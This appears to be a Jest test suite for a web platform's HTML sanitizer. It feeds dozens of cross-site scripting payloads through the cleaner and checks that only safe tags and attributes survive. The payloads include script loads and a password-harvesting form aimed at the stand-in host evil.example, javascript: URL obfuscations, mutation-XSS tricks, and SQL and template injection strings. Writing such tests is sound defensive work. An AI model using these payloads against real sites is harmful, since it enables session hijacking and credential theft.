/** @jest-environment jsdom */
import { expect, test } from '@jest/globals';
import { cleanHtml, plainText } from '../../server/platform/richText.ts';

const attacks = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\x20type="text/javascript">javascript:alert(1);</script>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><foreignObject><p><img src=x onerror=alert(1)></p></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<p title="</p><img src=x onerror=alert(1)>">x</p>',
  '<img src=x onerror=alert(1)>',
  '<img data-media-id="7" src="x" onerror="alert(1)">',
  '<img data-media-id="7&quot; onerror=&quot;alert(1)">',
  '<img data-media-id="-1"><img data-media-id="1e3"><img data-media-id="">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://friend.example" onclick="alert(1)" target="_top" style="position:fixed">x</a>',
  '<a href="https://friend.example" rel="opener">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><p>x</p>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<b onmouseover=alert(1)>x</b><marquee onstart=alert(1)>x</marquee>',
  '<p id="root" class="x" name="body" data-x="1" contenteditable>x</p>',
  '<h1><h2><li><blockquote><p>x',
  `${'<blockquote>'.repeat(500)}x`,
  '<<img src=x onerror=alert(1)//<p>',
  '<p/onclick=alert(1)/x>',
  '\u202e<p>desrever</p>\ufeff',
];

const allowed = new Set('P H2 H3 STRONG EM UL OL LI BLOCKQUOTE BR A IMG'.split(' '));
const attributes: Record<string, string[]> = { A: ['href', 'rel'], IMG: ['data-media-id'] };

const parsed = (html: string) => new DOMParser().parseFromString(html, 'text/html').body;

test.each(attacks)('%j comes back harmless', (attack) => {
  const clean = cleanHtml(`<p>before</p>${attack}<p>after</p>`);
  const body = parsed(clean);
  for (const element of body.querySelectorAll('*')) {
    expect(allowed).toContain(element.tagName);
    for (const { name, value } of element.attributes) {
      expect(attributes[element.tagName] ?? []).toContain(name);
      if (name === 'href') expect(new URL(value, 'https://here.example/').protocol).toMatch(/^(https?|mailto|tel):$/);
      if (name === 'href') expect(value).not.toMatch(/^[\\/]{2}/);
      if (name === 'data-media-id') expect(value).toMatch(/^\d+$/);
      if (name === 'rel') expect(value).toBe('nofollow noopener noreferrer ugc');
    }
  }
});

test.each(attacks)('%j means the same to every reader after it was cleaned', (attack) => {
  const clean = cleanHtml(attack);
  expect(cleanHtml(clean)).toBe(clean);
  // What a browser makes of it, written out and read again, holds nothing else.
  const again = parsed(parsed(clean).innerHTML);
  for (const element of again.querySelectorAll('*')) expect(allowed).toContain(element.tagName);
  expect(again.innerHTML).not.toMatch(/<(script|img(?! data-media-id="\d+">))/i);
});

test.each([
  'Ærø & Øst – “quoted” <3',
  '5 < 6 and 7 > 2',
  'مرحبا 你好 🧖‍♂️ Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞',
  "%s %d ${7*7} {{7*7}} `ls` ' OR 1=1 --",
  '\u00a0 non-breaking',
])('%j stays readable', (words) => {
  const escaped = words.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
  expect(parsed(cleanHtml(`<p>${escaped}</p>`)).textContent).toBe(words);
  expect(plainText(cleanHtml(`<p>${escaped}</p>`))).toBe(words.replace(/\s+/g, ' ').trim());
});
